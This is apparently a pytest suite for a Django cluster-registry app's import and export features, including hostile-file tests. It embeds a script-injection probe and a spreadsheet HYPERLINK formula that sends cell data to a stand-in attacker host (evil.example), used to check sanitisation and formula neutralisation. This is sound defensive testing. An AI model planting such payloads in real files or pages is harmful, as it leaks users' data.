"""Imports are all-or-nothing, report every bad row and column, and re-import changes nothing."""

import csv
import io
import json
from decimal import Decimal

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.test import override_settings
from django.urls import reverse

from atclusters.core.models import AuditEntry
from atclusters.registry.importers import importer_for
from atclusters.registry.models import (
    ClusterOrganisation,
    CooperationAgreement,
    Membership,
    Organisation,
)
from tests.hostile_files import declared_dimension_bomb, nested_json

pytestmark = pytest.mark.django_db

CLUSTER_HEADER = (
    "slug,name,acronym,agency,country,nuts_code,city,year_established,website,sectors,"
    "technology_fields,ecosystems,s3_areas,label,label_date,description_en,description_es,"
    "description_gl,description_pt,description_fr"
)
GOOD_ROW = (
    "marine-energy,Marine Energy Cluster,MEC,galicia,ES,ES11,Vigo,2012,mec.example.org,35;30.11,"
    'renewable-energy-tech,renewable-energy,blue-growth,silver,2023-04-01,"<p>Waves <b>and</b> '
    'tides</p><script>alert(1)</script>",Olas,Ondas,Ondas,Vagues'
)


def run(kind, text, *, dry_run=False, filename=None, actor=None):
    importer = importer_for(kind, actor=actor)
    return importer.run(text.encode(), filename or f"{kind}.csv", dry_run=dry_run)


def test_valid_cluster_import_creates_and_sanitises(world):
    report = run("clusters", f"{CLUSTER_HEADER}\n{GOOD_ROW}\n")
    assert report.ok, report.errors
    assert (report.created, report.updated, report.unchanged) == (1, 0, 0)
    cluster = ClusterOrganisation.objects.get(slug="marine-energy")
    assert cluster.agency == world.agency and cluster.nuts_region_id == "ES11"
    assert sorted(s.code for s in cluster.sectors.all()) == ["30.11", "35"]
    assert cluster.website == "https://mec.example.org"
    assert cluster.description_en == "<p>Waves <b>and</b> tides</p>"
    assert cluster.description_gl == "Ondas" and cluster.label == "silver"
    assert AuditEntry.objects.filter(source="import", action="create").count() == 1


def test_reimporting_the_same_file_changes_nothing(world):
    text = f"{CLUSTER_HEADER}\n{GOOD_ROW}\n"
    run("clusters", text)
    updated_at = ClusterOrganisation.objects.get(slug="marine-energy").updated_at
    audit_count = AuditEntry.objects.count()
    report = run("clusters", text)
    assert (report.created, report.updated, report.unchanged) == (0, 0, 1)
    assert ClusterOrganisation.objects.get(slug="marine-energy").updated_at == updated_at
    assert AuditEntry.objects.count() == audit_count


def test_every_error_is_reported_and_nothing_is_written(world):
    bad = [
        "a-ok,Fine Cluster,,galicia,ES,ES11,,,,,,,,,,,,,,",
        "bad-1,Bad One,,galicia,XX,ES99,,17th century,,99.99,,moon-mining,,platinum,,,,,,",
        ",,,,ES,,,,,,,,,,,,,,,",
        "bad-3,Wrong Region,,galicia,PT,ES11,,,,,,,,gold,2023-05-01,,,,,",
        "bad-4,Dates Reversed,,galicia,ES,ES11,,,,,,,,,2023-05-01,,,,,",
    ]
    before = ClusterOrganisation.objects.count()
    report = run("clusters", "\n".join([CLUSTER_HEADER, *bad]) + "\n")
    assert not report.ok
    found = {(e.row, e.column) for e in report.errors}
    assert {
        (3, "country"),
        (3, "nuts_code"),
        (3, "year_established"),
        (3, "sectors"),
        (3, "ecosystems"),
        (3, "label"),
        (4, "slug"),
        (4, "name"),
        (5, "nuts_code"),
        (6, "label"),
    } <= found
    ecosystem_error = next(e for e in report.errors if e.column == "ecosystems")
    assert "'moon-mining'" in ecosystem_error.message and "agri-food" in ecosystem_error.message
    label_error = next(e for e in report.errors if e.column == "label" and e.row == 3)
    assert "allowed: bronze, silver, gold" in label_error.message
    assert ClusterOrganisation.objects.count() == before
    assert not ClusterOrganisation.objects.filter(slug="a-ok").exists()


def test_dry_run_validates_without_writing(world):
    report = run("clusters", f"{CLUSTER_HEADER}\n{GOOD_ROW}\n", dry_run=True)
    assert report.ok and report.created == 1
    assert not ClusterOrganisation.objects.filter(slug="marine-energy").exists()


def test_missing_and_unknown_columns(world):
    report = run("clusters", "slug,colour\nx,red\n")
    assert {(e.column, e.message.split(";")[0]) for e in report.errors} == {
        ("name", "required column is missing"),
        ("country", "required column is missing"),
        ("colour", "unknown column"),
    }


@override_settings(IMPORT_MAX_ROWS=2)
def test_row_limit(world):
    report = run("clusters", f"{CLUSTER_HEADER}\n{GOOD_ROW}\n{GOOD_ROW}\n{GOOD_ROW}\n")
    assert report.errors[0].column == "file" and "limit is 2" in report.errors[0].message


@override_settings(IMPORT_MAX_BYTES=100)
def test_size_limit(world):
    report = run("clusters", f"{CLUSTER_HEADER}\n{GOOD_ROW}\n")
    assert "the limit is 100 bytes" in report.errors[0].message


def test_organisation_identifiers_are_validated_and_used_as_keys(world):
    header = "name,type,country,vat_number,national_id,pic,lei,employees"
    rows = [
        "Nova Foods,sme,ES,ES-B12345674,,,,",  # same VAT as `member`: updates it
        "Porto Moldes,sme,PT,PT 500000000,,,,",
        "Bad Ids,sme,FR,DE123,123456789,12345,5493001KJTIIGC8Y1R13,",
        "No Key,large,ES,,,,,",
    ]
    report = run("organisations", "\n".join([header, *rows]) + "\n")
    columns = {(e.row, e.column) for e in report.errors}
    assert {(4, "vat_number"), (4, "national_id"), (4, "pic"), (4, "lei"), (5, "slug")} <= columns
    assert (3, "vat_number") not in columns
    assert Organisation.objects.get(slug="member").name == "Member SME"
    report = run("organisations", "\n".join([header, rows[0], rows[1]]) + "\n")
    assert report.ok and (report.created, report.updated) == (1, 1)
    assert Organisation.objects.get(slug="member").name == "Nova Foods"
    assert Organisation.objects.get(vat_number="PT500000000").name == "Porto Moldes"


def test_membership_import_and_history(world):
    text = "cluster,organisation,role,since,until\nfood,outsider,board,2021-03-01,2022-12-31\nfood,outsider,member,2023-01-01,\n"
    report = run("memberships", text)
    assert report.ok, report.errors
    assert (
        Membership.objects.filter(cluster=world.cluster, organisation=world.outsider).count() == 2
    )
    bad = run(
        "memberships",
        "cluster,organisation,since\nnope,outsider,2020-01-01\nfood,member,yesterday\n",
    )
    assert {(e.row, e.column) for e in bad.errors} == {(2, "cluster"), (3, "since")}


def test_xlsx_import(world):
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(CLUSTER_HEADER.split(","))
    sheet.append(["xlsx-cluster", "XLSX Cluster", "", "galicia", "ES", "ES11", "", 2015])
    buffer = io.BytesIO()
    workbook.save(buffer)
    report = importer_for("clusters", actor=None).run(buffer.getvalue(), "c.xlsx")
    assert report.ok, report.errors
    assert ClusterOrganisation.objects.get(slug="xlsx-cluster").year_established == 2015


def test_import_refuses_rows_the_user_may_not_change(world):
    text = "slug,name,country\nsea,Renamed by the wrong agency,FR\n"
    report = run("clusters", text, actor=world.staff)
    assert [(e.row, e.column) for e in report.errors] == [(2, "row")]
    assert ClusterOrganisation.objects.get(slug="sea").name == "Sea Cluster"


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "json"])
def test_export_reimports_without_loss_into_an_empty_installation(world, fmt, django_db_blocker):
    CooperationAgreement.objects.create(
        slug="mou",
        title="MoU",
        type="mou",
        agency_a=world.agency,
        cluster_b=world.other_cluster,
        start="2024-01-01",
        owner=world.agency,
    )
    world.cluster.ecosystems.set([])
    exported = {
        kind: importer_for(kind, actor=None).export(fmt)
        for kind in ("clusters", "organisations", "memberships", "agreements")
    }
    snapshot = {kind: importer_for(kind, actor=None).export("json") for kind in exported}
    Membership.objects.all().delete()
    CooperationAgreement.objects.all().delete()
    Organisation.objects.all().delete()
    ClusterOrganisation.objects.all().delete()
    for kind in ("clusters", "organisations", "memberships", "agreements"):
        report = importer_for(kind, actor=None).run(exported[kind], f"{kind}.{fmt}")
        assert report.ok, (kind, report.errors)
    for kind, before in snapshot.items():
        assert json.loads(importer_for(kind, actor=None).export("json")) == json.loads(before), kind


def test_cli_import_exit_code_and_json_report(world, tmp_path, capsys):
    bad = tmp_path / "bad.csv"
    bad.write_text("slug,name,country\nx,,ZZ\n")
    with pytest.raises(SystemExit) as exit_info:
        call_command("registry", "import", "clusters", str(bad), "--json")
    assert exit_info.value.code == 2
    report = json.loads(capsys.readouterr().out)
    assert report["ok"] is False
    assert {(e["row"], e["column"]) for e in report["errors"]} == {
        (2, "name"),
        (2, "country"),
        (2, "agency"),
    }


def test_cli_export_and_template(world, tmp_path):
    out = tmp_path / "clusters.xlsx"
    call_command("registry", "export", "clusters", "--format", "xlsx", "-o", str(out))
    sheet = openpyxl.load_workbook(out).active
    assert sheet.cell(1, 1).value == "slug" and sheet.max_row == 5
    template = tmp_path / "template.csv"
    call_command("registry", "template", "organisations", "-o", str(template))
    assert template.read_text().startswith("slug,name,type,country,vat_number")


# Hostile files (issue 16): every entry point answers with errors, never a crash, and writes
# nothing; on PostgreSQL as on SQLite.

NUL_CLUSTERS = "slug,name,country,agency\nnul-cluster,Bad\x00Name,ES,galicia\n"
REPEATED_HEADER = "slug,name,country,agency,name\nrepeated,First,ES,galicia,Second\n"


def test_a_nul_character_is_a_row_error_naming_its_column(world):
    for dry_run in (True, False):
        report = run("clusters", NUL_CLUSTERS, dry_run=dry_run)
        assert [(e.row, e.column) for e in report.errors] == [(2, "name")]
        assert "NUL character" in report.errors[0].message
    json_file = json.dumps([{"slug": "nul", "name": "Fine", "country": "E\u0000S"}])
    report = run("clusters", json_file, filename="clusters.json")
    assert [(e.row, e.column) for e in report.errors] == [(2, "country")]
    assert not ClusterOrganisation.objects.filter(slug__in=["nul-cluster", "nul"]).exists()


def test_a_column_named_twice_is_an_error_naming_the_column(world):
    report = run("clusters", REPEATED_HEADER)
    assert [(e.row, e.column, e.message) for e in report.errors] == [
        (1, "name", "appears more than once in the header")
    ]
    assert not ClusterOrganisation.objects.filter(slug="repeated").exists()


def test_deeply_nested_json_is_invalid_json(world):
    report = importer_for("clusters", actor=None).run(nested_json(), "clusters.json")
    assert [(e.row, e.column, e.message) for e in report.errors] == [
        (0, "file", "Invalid JSON: nested deeper than 32 levels.")
    ]


def test_the_import_page_refuses_hostile_files(login, world):
    client = login(world.staff)
    files = {
        "nul.csv": (NUL_CLUSTERS.encode(), ["<td>2</td><td>name</td>", "NUL character"]),
        "repeated.csv": (
            REPEATED_HEADER.encode(),
            ["<td>1</td><td>name</td><td>appears more than once in the header"],
        ),
        "nested.json": (nested_json(), ["Invalid JSON: nested deeper than 32 levels."]),
        "bomb.xlsx": (
            declared_dimension_bomb({"A": "slug", "B": "name", "C": "country"}),
            ["Row 1048576 has data in column XFD; the limit is 100 columns."],
        ),
    }
    for name, (content, expected) in files.items():
        upload = SimpleUploadedFile(name, content)
        response = client.post(reverse("import"), {"kind": "clusters", "file": upload})
        assert response.status_code == 200, name
        assert all(fragment in response.text for fragment in expected), name
    assert ClusterOrganisation.objects.count() == 4


@pytest.mark.parametrize(
    ("name", "content", "error"),
    [
        ("nul.csv", NUL_CLUSTERS.encode(), (2, "name")),
        ("repeated.csv", REPEATED_HEADER.encode(), (1, "name")),
        ("nested.json", nested_json(), (0, "file")),
    ],
)
def test_the_command_line_refuses_hostile_files(world, tmp_path, capsys, name, content, error):
    path = tmp_path / name
    path.write_bytes(content)
    with pytest.raises(SystemExit) as exit_info:
        call_command("registry", "import", "clusters", str(path), "--json", "--dry-run")
    assert exit_info.value.code == 2
    report = json.loads(capsys.readouterr().out)
    assert [(e["row"], e["column"]) for e in report["errors"]] == [error]


FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def test_exports_neutralise_formulas_and_write_plain_amounts(world):
    ClusterOrganisation.objects.filter(pk=world.cluster.pk).update(name=FORMULA_NAME)
    Organisation.objects.filter(pk=world.member.pk).update(turnover_eur=Decimal("120000.00"))
    clusters_csv = importer_for("clusters", actor=None).export("csv").decode()
    row = next(r for r in csv.DictReader(io.StringIO(clusters_csv)) if r["slug"] == "food")
    assert row["name"] == "'" + FORMULA_NAME
    sheet = openpyxl.load_workbook(
        io.BytesIO(importer_for("clusters", actor=None).export("xlsx"))
    ).active
    name = next(row[1] for row in sheet.iter_rows(min_row=2) if row[0].value == "food")
    assert (name.data_type, name.value) == ("s", FORMULA_NAME)
    organisations_csv = importer_for("organisations", actor=None).export("csv").decode()
    member = next(
        r for r in csv.DictReader(io.StringIO(organisations_csv)) if r["slug"] == "member"
    )
    assert member["turnover_eur"] == "120000"
    sheet = openpyxl.load_workbook(
        io.BytesIO(importer_for("organisations", actor=None).export("xlsx"))
    ).active
    header = [cell.value for cell in sheet[1]]
    turnover = next(
        row[header.index("turnover_eur")].value
        for row in sheet.iter_rows(min_row=2)
        if row[0].value == "member"
    )
    assert turnover == 120000
